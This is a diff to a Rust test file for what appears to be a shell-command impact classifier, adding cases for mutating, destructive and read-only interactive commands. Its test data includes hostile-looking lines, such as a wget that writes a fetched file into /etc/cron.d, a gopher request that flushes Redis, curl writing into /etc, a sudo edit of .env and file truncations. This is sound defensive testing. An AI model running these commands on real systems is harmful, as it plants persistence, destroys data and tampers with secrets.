@@ -61,6 +61,10 @@ fn what_once_looked_harmless_is_not() {
         curl --etag-save /etc/x http://h/
         curl -w '%output{/etc/x}' http://h/
         curl -sSLofile http://h/
+        curl $OPTS http://h/
+        journalctl "$@"
+        printf 'x' > f; cat > f <<< x
+        sudo sed -i s/a/b/ .env
         curl gopher://h:6379/_FLUSHALL
         wget -qO /etc/cron.d/x http://h/
         wget -qO- -O x http://h/
@@ -175,6 +179,8 @@ fn what_people_type_to_look_stays_read_only() {
         journalctl -u web -n 100 --since "10 min ago" --no-pager
         journalctl -xeu web
         journalctl -u web -p err -b
+        journalctl -b -1 -e
+        sudo -u postgres psql <<< 'select 1'
         docker ps -a --format '{{.Names}}'
         docker logs web --tail 50
         docker logs -t --since 5m web
@@ -325,5 +331,22 @@ fn no_program_is_of_two_families() {
         let call = Call { program, args: &[], command: &command, depth: 0 };
         let families = FAMILIES.iter().filter(|family| family(&call).is_some()).count();
         assert!(families < 2, "{program} is of {families} families");
+    }
+}
+
+/// Impact and whether it waits, told apart for the few that were taken for something else.
+#[test]
+fn what_was_taken_for_worse_is_seen_as_it_is() {
+    for text in ["cat > f <<< x", "cat <<EOF > f\nhello\nEOF", "echo x | cat > f"] {
+        assert_eq!(impact(text), Impact::Mutating, "{text}");
+    }
+    for text in [
+        "sudo psql shop < dump.sql", "docker exec -i db psql shop < dump.sql", ": > f", "cat /dev/null > f",
+        "echo -n > f", "cat > f < /dev/null",
+    ] {
+        assert_eq!(impact(text), Impact::Destructive, "{text}");
+    }
+    for text in ["vmstat 1", "ping example.org", "docker logs -tf web", "tail -100f log", "journalctl -fu web"] {
+        assert_eq!(classify(text).map(|v| (v.impact, v.interactive)), Ok((Impact::ReadOnly, true)), "{text}");
     }
 }
